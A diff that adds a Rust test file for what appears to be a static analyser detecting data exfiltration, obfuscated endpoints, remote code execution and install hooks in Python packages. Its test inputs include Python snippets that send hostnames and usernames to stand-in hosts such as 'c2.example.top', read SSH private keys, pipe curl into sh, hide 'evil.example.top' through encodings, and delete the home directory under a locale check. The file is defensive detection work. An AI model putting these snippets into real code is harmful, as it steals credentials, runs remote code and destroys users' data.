@@ -1,0 +1,398 @@
+//! The front end on small programs: each source, sink and decoder, positive and negative.
+
+use crate::{analyze, Options};
+use telltale_facts::{DataKind, Effect, FileFacts, SinkKind};
+
+fn facts(src: &str) -> FileFacts {
+    analyze("pkg/mod.py", src, &Options::default())
+}
+
+fn source_kinds(f: &FileFacts) -> Vec<DataKind> {
+    let mut k: Vec<DataKind> = f.sources.iter().map(|s| s.kind).collect();
+    k.sort();
+    k.dedup();
+    k
+}
+
+/// The one flow of a program, and what it carries.
+fn one_flow(src: &str) -> telltale_facts::FlowFact {
+    let f = facts(src);
+    assert_eq!(f.flows.len(), 1, "{src}\nflows: {:#?}", f.flows);
+    f.flows.into_iter().next().unwrap()
+}
+
+fn no_flow(src: &str) {
+    let f = facts(src);
+    assert!(f.flows.is_empty(), "{src}\nunexpected flows: {:#?}", f.flows);
+}
+
+fn decoded(src: &str) -> Vec<String> {
+    facts(src).obfuscations.into_iter().map(|o| o.decoded).collect()
+}
+
+fn hidden_hosts(f: &FileFacts) -> Vec<&str> {
+    f.endpoints.iter().filter(|e| !e.encodings.is_empty()).map(|e| e.host.as_str()).collect()
+}
+
+// ------------------------------------------------------------------------------ sources
+
+#[test]
+fn identity_sources_by_api() {
+    let cases = [
+        ("import socket\nsocket.gethostname()", DataKind::Hostname),
+        ("import socket\nsocket.getfqdn()", DataKind::Hostname),
+        ("import platform\nplatform.node()", DataKind::Hostname),
+        ("import os\nos.uname().nodename", DataKind::Hostname),
+        ("import os\nos.uname()[1]", DataKind::Hostname),
+        ("import getpass\ngetpass.getuser()", DataKind::Username),
+        ("import os\nos.getlogin()", DataKind::Username),
+        ("import os, pwd\npwd.getpwuid(os.getuid()).pw_name", DataKind::Username),
+        ("import os\nos.environ['USER']", DataKind::Username),
+        ("import os\nos.getenv('USERNAME')", DataKind::Username),
+        ("import os\nos.environ.get('GITHUB_TOKEN')", DataKind::SecretEnv),
+        ("import os\nos.environ", DataKind::WholeEnvironment),
+        ("import os\ndict(os.environ)", DataKind::WholeEnvironment),
+        ("import os\nos.path.expanduser('~')", DataKind::HomeDir),
+        ("from pathlib import Path\nPath.home()", DataKind::HomeDir),
+        ("import os\nos.getcwd()", DataKind::WorkingDirectory),
+        ("import uuid\nuuid.getnode()", DataKind::NetworkInterfaces),
+        ("import time\ntime.tzname[0]", DataKind::TimeZone),
+        ("import datetime\ndatetime.datetime.now().astimezone().tzinfo", DataKind::TimeZone),
+        ("from datetime import datetime\ndatetime.now().astimezone().tzname()", DataKind::TimeZone),
+        ("import locale\nlocale.getdefaultlocale()[0]", DataKind::Locale),
+        ("import locale\nlocale.getlocale()", DataKind::Locale),
+        ("import platform\nplatform.platform()", DataKind::OsRelease),
+        ("import os\nos.uname().release", DataKind::OsRelease),
+        ("import os\nos.uname()[2]", DataKind::OsRelease),
+        // Aliases and hidden imports.
+        ("from socket import gethostname as g\ng()", DataKind::Hostname),
+        ("import platform as p\np.node()", DataKind::Hostname),
+        ("__import__('socket').gethostname()", DataKind::Hostname),
+        ("import getpass\nf = getpass.getuser\nf()", DataKind::Username),
+    ];
+    for (src, kind) in cases {
+        assert_eq!(source_kinds(&facts(src)), vec![kind], "{src}");
+    }
+}
+
+#[test]
+fn os_fields_and_other_variables_are_no_identity() {
+    for src in [
+        "import os\nos.uname().sysname",
+        "import os\nos.uname()[0]",
+        "import platform\nplatform.system()",
+        "import platform\nplatform.uname().machine",
+        "import os\nos.environ.get('PATH')",
+        "import os\nos.environ['LD_LIBRARY_PATH']",
+        "import locale\nlocale.getdefaultlocale()[1]",
+        "import os\nos.path.expanduser(some_path)",
+    ] {
+        assert!(facts(src).sources.is_empty(), "{src}: {:?}", facts(src).sources);
+    }
+}
+
+#[test]
+fn sensitive_files_by_path() {
+    let cases = [
+        ("open('/etc/resolv.conf').read()", DataKind::NetworkInterfaces),
+        ("open('/etc/hosts').read()", DataKind::NetworkInterfaces),
+        ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()", DataKind::SshKey),
+        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()", DataKind::SshKey),
+        ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", DataKind::SshKey),
+        ("open('/etc/machine-id').read()", DataKind::MachineId),
+        ("open('/sys/class/net/{}/address'.format(i)).read()", DataKind::NetworkInterfaces),
+        // A helper that opens its parameter.
+        ("def read(p):\n    with open(p) as f:\n        return f.read()\nread('/etc/resolv.conf')", DataKind::NetworkInterfaces),
+    ];
+    for (src, kind) in cases {
+        assert!(source_kinds(&facts(src)).contains(&kind), "{src}: {:?}", facts(src).sources);
+    }
+    // An ordinary file's content is no identity, even under the home directory.
+    let f = facts("import os\nimport requests\nd = open(os.path.join(os.path.expanduser('~'), '.myapp.cfg')).read()\nrequests.post('https://x.example', data=d)");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
+#[test]
+fn lan_ip_is_a_source_not_a_dns_flow() {
+    let f = facts("import socket\nh = socket.gethostname()\nip = socket.gethostbyname(h)\n");
+    assert!(source_kinds(&f).contains(&DataKind::NetworkInterfaces));
+    assert!(f.flows.is_empty());
+    let f = facts("import socket\nip = socket.gethostbyname(socket.gethostname())\n");
+    assert!(source_kinds(&f).contains(&DataKind::NetworkInterfaces));
+    assert!(f.flows.is_empty());
+}
+
+// ------------------------------------------------------------------------------ sinks
+
+#[test]
+fn requests_with_identity_is_a_flow_with_steps_and_endpoint() {
+    let fl = one_flow(
+        "import socket, getpass, requests\n\
+         h = socket.gethostname()\n\
+         payload = {'hostname': h, 'user': getpass.getuser()}\n\
+         requests.post('https://c2.example.top/collect', data=payload)\n",
+    );
+    assert_eq!(fl.sink, SinkKind::Http);
+    assert_eq!(fl.sink_api, "requests.post");
+    assert!(fl.kinds.contains(DataKind::Hostname) && fl.kinds.contains(DataKind::Username));
+    assert_eq!(fl.endpoints, vec!["c2.example.top"]);
+    let steps: Vec<&str> = fl.steps.iter().map(|s| s.what.as_str()).collect();
+    assert!(steps[0].starts_with("reads "));
+    assert!(steps.iter().any(|s| s.starts_with("payload = {")));
+    assert!(steps.last().unwrap().starts_with("sent by requests.post"));
+}
+
+#[test]
+fn ordinary_requests_are_quiet() {
+    no_flow("import requests\nrequests.get('https://pypi.org/simple/requests/')");
+    no_flow("import requests, os\nurl = os.environ.get('INDEX_URL', 'https://pypi.org')\nrequests.get(url, timeout=10)");
+    no_flow("import requests\ndef fetch(url):\n    return requests.get(url).json()\nfetch('https://api.example.com/v1')");
+    // HOME used for a path is read, not sent.
+    let f = facts("import os, json\ncfg = os.path.join(os.environ.get('HOME'), '.cfg')\nwith open(cfg) as fh:\n    json.load(fh)\n");
+    assert_eq!(source_kinds(&f), vec![DataKind::HomeDir]);
+    assert!(f.flows.is_empty());
+    // The OS in a user agent says nothing about the user.
+    no_flow("import platform, requests\nrequests.get('https://x.example', headers={'User-Agent': f'x/1 ({platform.system()})'})");
+    no_flow("import platform, requests\nrequests.get('https://x.example', headers={'User-Agent': f'x/1 ({platform.platform()})'})");
+    // Next to other identity it is part of the fingerprint.
+    let fl = one_flow("import platform, socket, requests\nrequests.post('https://x.example', data=platform.platform() + socket.gethostname())");
+    assert!(fl.kinds.contains(DataKind::OsRelease) && fl.kinds.contains(DataKind::Hostname));
+}
+
+#[test]
+fn http_clients_and_handles() {
+    let cases = [
+        ("import requests, socket\nrequests.get('http://x.top', params={'h': socket.gethostname()})", "requests.get", "x.top"),
+        ("import requests, socket\ns = requests.Session()\ns.post('http://x.top/a', json={'h': socket.gethostname()})", "requests.Session().post", "x.top"),
+        (
+            "import urllib.request, socket\nreq = urllib.request.Request('http://x.top/a', data=socket.gethostname().encode())\nurllib.request.urlopen(req)",
+            "urllib.request.urlopen",
+            "x.top",
+        ),
+        (
+            "from urllib import request\nimport getpass\nreq = request.Request('http://x.top/a')\nrequest.urlopen(req, data=getpass.getuser().encode())",
+            "urllib.request.urlopen",
+            "x.top",
+        ),
+        (
+            "import http.client, socket\nc = http.client.HTTPSConnection('x.top')\nc.request('POST', '/', socket.gethostname())",
+            "http.client.HTTPSConnection().request",
+            "x.top",
+        ),
+        (
+            "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.1.2.3', 80))\ns.sendall(os.getcwd().encode())",
+            "socket.socket().sendall",
+            "10.1.2.3",
+        ),
+    ];
+    for (src, api, host) in cases {
+        let fl = one_flow(src);
+        assert_eq!(fl.sink_api, api, "{src}");
+        assert_eq!(fl.endpoints, vec![host.to_string()], "{src}");
+    }
+}
+
+#[test]
+fn dns_names_built_from_data() {
+    let fl = one_flow("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example.top')");
+    assert_eq!(fl.sink, SinkKind::Dns);
+    assert_eq!(fl.endpoints, vec!["x.example.top"]);
+    let fl = one_flow("import socket, base64\nu = base64.b32encode(socket.gethostname().encode()).decode()\nsocket.getaddrinfo(u + '.d.example.top', 80)");
+    assert_eq!(fl.sink, SinkKind::Dns);
+    no_flow("import socket\nsocket.gethostbyname('pypi.org')");
+}
+
+#[test]
+fn commands_through_the_shell_front_end() {
+    let fl = one_flow("import os, socket\nos.system(f'nslookup {socket.gethostname()}.x.example.top')");
+    assert_eq!(fl.sink, SinkKind::Dns);
+    assert!(fl.sink_api.starts_with("os.system"));
+    let fl = one_flow("import subprocess, getpass\nsubprocess.run(['curl', '-d', getpass.getuser(), 'https://x.example.top/c'])");
+    assert_eq!(fl.sink, SinkKind::NetworkCommand);
+    let fl = one_flow("import subprocess, socket\nd = socket.gethostname()\nsubprocess.Popen(['dig', '+short', d + '.x.example.top'])");
+    assert_eq!(fl.sink, SinkKind::Dns);
+    // What a command prints is data too.
+    let fl = one_flow("import subprocess, requests\nu = subprocess.getoutput('whoami')\nrequests.post('https://x.example.top', data=u)");
+    assert!(fl.kinds.contains(DataKind::Username));
+    // Ordinary commands are quiet.
+    no_flow("import subprocess\nsubprocess.run(['git', 'status'])\nsubprocess.check_call('make install', shell=True)");
+}
+
+#[test]
+fn code_from_the_network_is_dynamic_code() {
+    let f = facts("import subprocess\nexec(subprocess.getoutput('curl -s https://x.example.top/p'))");
+    assert!(f.dynamic_code.iter().any(|d| d.from_network && d.api == "exec"), "{:#?}", f.dynamic_code);
+    let f = facts("import requests\ncode = requests.get('https://x.example.top/p').text\nexec(code)");
+    assert!(f.dynamic_code.iter().any(|d| d.from_network));
+    let f = facts("import os\nos.system('curl -s https://x.example.top/i | sh')");
+    assert!(f.dynamic_code.iter().any(|d| d.from_network));
+    let f = facts("exec('x = 1')\neval(expr)");
+    assert!(f.dynamic_code.is_empty());
+}
+
+#[test]
+fn constant_code_run_by_exec_is_its_own_source() {
+    // exec(base64.b64decode(...)) of code that sends the host name.
+    let inner = "import socket, requests\nrequests.post('https://x.example.top', data=socket.gethostname())\n";
+    let b64 = base64_encode(inner.as_bytes());
+    let f = facts(&format!("import base64\nexec(base64.b64decode('{b64}'))\n"));
+    assert_eq!(f.nested.len(), 1);
+    assert_eq!(f.nested[0].facts.file, "pkg/mod.py › exec#1");
+    assert_eq!(f.nested[0].facts.flows.len(), 1);
+    assert!(f.obfuscations.iter().any(|o| o.technique.contains("code run by exec")));
+}
+
+fn base64_encode(b: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in b.chunks(3) {
+        let n = chunk.iter().enumerate().fold(0u32, |n, (i, c)| n | (*c as u32) << (16 - 8 * i));
+        for i in 0..4 {
+            out.push(if i <= chunk.len() { A[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
+        }
+    }
+    out
+}
+
+// ------------------------------------------------------------------------------ data flow
+
+#[test]
+fn data_flows_through_formatting_containers_and_functions() {
+    let sends = |prefix: &str| format!("import socket, requests, json, base64\nfrom urllib.parse import urlencode\n{prefix}\nrequests.post('https://x.example.top', data=out)\n");
+    for prefix in [
+        "h = socket.gethostname()\nout = f'host={h}'",
+        "out = 'h=%s' % socket.gethostname()",
+        "out = 'h={}'.format(socket.gethostname())",
+        "out = 'h=' + socket.gethostname()",
+        "out = json.dumps({'h': socket.gethostname()})",
+        "out = urlencode({'h': socket.gethostname()})",
+        "out = []\nout.append(socket.gethostname())",
+        "out = {}\nout['h'] = socket.gethostname()",
+        "out = base64.b64encode(socket.gethostname().encode())",
+        "def collect():\n    return {'h': socket.gethostname()}\nout = collect()",
+        "def wrap(v):\n    return 'x' + v\nout = wrap(socket.gethostname())",
+        "class C:\n    def __init__(self):\n        self.h = socket.gethostname()\n    def get(self):\n        return self.h\nout = C().get()",
+        "enc = ''\nraw = socket.gethostname()\nfor i in range(len(raw)):\n    enc += chr(ord(raw[i]) ^ 5)\nout = enc",
+        "out = [c for c in socket.gethostname()]",
+        "for k, v in {'h': socket.gethostname()}.items():\n    out = v",
+    ] {
+        let fl = one_flow(&sends(prefix));
+        assert!(fl.kinds.contains(DataKind::Hostname), "{prefix}");
+    }
+}
+
+#[test]
+fn comparisons_and_predicates_carry_nothing() {
+    no_flow("import socket, requests\nok = socket.gethostname() == 'build'\nrequests.post('https://x.example.top', data=str(ok))");
+    no_flow("import socket, requests\nn = len(socket.gethostname())\nrequests.post('https://x.example.top', data=n)");
+    no_flow("import socket, requests\nif socket.gethostname().startswith('ci'):\n    requests.post('https://x.example.top', data='ci')");
+}
+
+// ------------------------------------------------------------------------------ decoding
+
+#[test]
+fn decoders_reveal_hidden_endpoints() {
+    let cases = [
+        "import base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudG9wL2M=').decode()",
+        "import base64\nu = base64.b32decode('NB2HI4DTHIXS6ZLWNFWC4ZLYMFWXA3DFFZ2G64BPMM======')",
+        "import base64\nu = base64.b16decode('68747470733A2F2F6576696C2E6578616D706C652E746F702F63')",
+        "u = bytes.fromhex('68747470733a2f2f6576696c2e6578616d706c652e746f702f63').decode()",
+        "import codecs\nu = codecs.decode('uggcf://rivy.rknzcyr.gbc/p', 'rot13')",
+        "u = ''.join([chr(c) for c in [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,46,116,111,112,47,99]])",
+        "u = ''.join(map(chr, [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,46,116,111,112,47,99]))",
+        "u = ''.join(chr(c ^ 7) for c in [111,115,115,119,116,61,40,40,98,113,110,107,41,98,127,102,106,119,107,98,41,115,104,119,40,100])",
+        "u = 'c/pot.elpmaxe.live//:sptth'[::-1]",
+        "u = 'ht' + 'tps' + '://ev' + 'il.exa' + 'mple.top/c'",
+        "import base64\ndef d(s):\n    return base64.b64decode(s).decode()\nu = d('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudG9wL2M=')",
+        "import zlib, base64\nu = zlib.decompress(base64.b64decode('eJzLKCkpKLbS108ty8zRS61IzC3ISdUryS/QTwYAg3kJqQ=='))",
+        "key = [7]\ns = [111,115,115,119,116,61,40,40,98,113,110,107,41,98,127,102,106,119,107,98,41,115,104,119,40,100]\nu = ''\nfor c in s:\n    u += chr(c ^ key[0])",
+    ];
+    for src in cases {
+        let f = facts(src);
+        assert_eq!(hidden_hosts(&f), vec!["evil.example.top"], "{src}: {:#?} {:#?}", f.endpoints, f.obfuscations);
+        assert!(!f.obfuscations.is_empty(), "{src}");
+    }
+}
+
+#[test]
+fn split_and_encoded_address_names_its_techniques() {
+    let f = facts("import base64\nrip = 'M' + 'TIxL' + 'jQyL' + 'jIx' + 'N' + 'y4' + '0NA' + '=='\nip = base64.b64decode(rip)");
+    assert_eq!(hidden_hosts(&f), vec!["121.42.217.44"]);
+    assert!(f.obfuscations.iter().any(|o| o.technique == "base64 → split"), "{:#?}", f.obfuscations);
+}
+
+#[test]
+fn ordinary_decoding_is_quiet() {
+    assert!(decoded("import base64\nbase64.b64decode('aGVsbG8gd29ybGQ=')").is_empty());
+    assert!(decoded("x = ''.join(chr(i) for i in range(256))").is_empty());
+    assert!(decoded("x = '|'.join(reversed(['a', 'b', 'c']))").is_empty());
+    assert!(decoded("x = 'https://' + host + '/api'").is_empty());
+    assert!(decoded("x = 'https://example.com/' + 'api/' + 'v1'").is_empty());
+}
+
+// ------------------------------------------------------------------------------ region guards
+
+#[test]
+fn region_guards_name_countries_and_effects() {
+    let f = facts("import locale, shutil, os\nif locale.getdefaultlocale()[0] == 'ru_RU':\n    shutil.rmtree(os.path.expanduser('~'))\n");
+    assert_eq!(f.region_guards.len(), 1);
+    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
+    assert_eq!(f.region_guards[0].effects, vec![Effect::Destructive]);
+    let f = facts(
+        "import requests, os\nr = requests.get('https://ipapi.co/json').json()\n\
+         def main():\n    if r['country'] not in ('RU', 'BY'):\n        return\n    os.system('rm -rf /tmp/x')\n",
+    );
+    assert_eq!(f.region_guards.len(), 1);
+    assert_eq!(f.region_guards[0].countries, vec!["BY", "RU"]);
+    assert_eq!(f.region_guards[0].effects, vec![Effect::Exec]);
+    let f = facts("import time\nif time.tzname[0] in ('MSK',) or time.tzname[0] == 'Europe/Moscow':\n    print('hi')\n");
+    assert_eq!(f.region_guards.len(), 1);
+    assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
+    // Comparing the OS or an ordinary setting is no region check.
+    assert!(facts("import platform\nif platform.system() == 'Windows':\n    print('x')\n").region_guards.is_empty());
+}
+
+// ------------------------------------------------------------------------------ entry points
+
+#[test]
+fn cmdclass_install_overrides_are_install_scripts() {
+    let f = facts(
+        "from setuptools import setup\nfrom setuptools.command.install import install\n\
+         class PostInstall(install):\n    def run(self):\n        install.run(self)\n\
+         setup(name='x', cmdclass={'install': PostInstall, 'test': Other})\n",
+    );
+    assert_eq!(f.install_scripts.len(), 1);
+    assert_eq!(f.install_scripts[0].hook, "install");
+    assert_eq!(f.install_scripts[0].command, "setup.py cmdclass: PostInstall.run");
+    assert!(facts("from setuptools import setup\nsetup(name='x')\n").install_scripts.is_empty());
+}
+
+#[test]
+fn imports_are_requirements_and_sdks() {
+    let f = facts("import os.path\nfrom . import sibling\nfrom ..pkg import mod\nimport sentry_sdk\n");
+    assert_eq!(f.requires, vec!["..pkg", ".sibling", "os.path", "sentry_sdk"]);
+    assert_eq!(f.sdk_imports.len(), 1);
+}
+
+// ------------------------------------------------------------------------------ hostile input
+
+#[test]
+fn bad_input_gives_diagnostics_not_panics() {
+    let f = facts("def (:\n  ))))\n");
+    assert!(!f.diagnostics.is_empty());
+    // Python 2 code: the statements around the errors are still analysed.
+    let f = facts("import socket, requests\nprint 'x'\nrequests.post('http://x.example.top', data=socket.gethostname())\nexcept Exception, e:\n  pass\n");
+    assert!(f.diagnostics[0].starts_with("parsed with"));
+    assert_eq!(f.flows.len(), 1);
+    let deep = format!("x = {}1\n", "-".repeat(5_000));
+    assert!(facts(&deep).diagnostics.iter().any(|d| d.contains("nested deeper")));
+    let deep = format!("x = {}1{}\n", "[".repeat(3_000), "]".repeat(3_000));
+    assert!(facts(&deep).diagnostics.iter().any(|d| d.contains("nested deeper")));
+    let long = format!("x = {}\n", vec!["'a'"; 100_000].join(" + "));
+    assert!(facts(&long).diagnostics.is_empty());
+    let big = analyze("x.py", "x = 1\n", &Options { max_parse_bytes: 3 });
+    assert!(big.diagnostics[0].starts_with("not parsed"));
+    for s in ["", "\0\0\0", "'''", "f'{", "lambda: (yield)", "x = 'a' * 10**12\nexec(x + x)"] {
+        facts(s);
+    }
+}
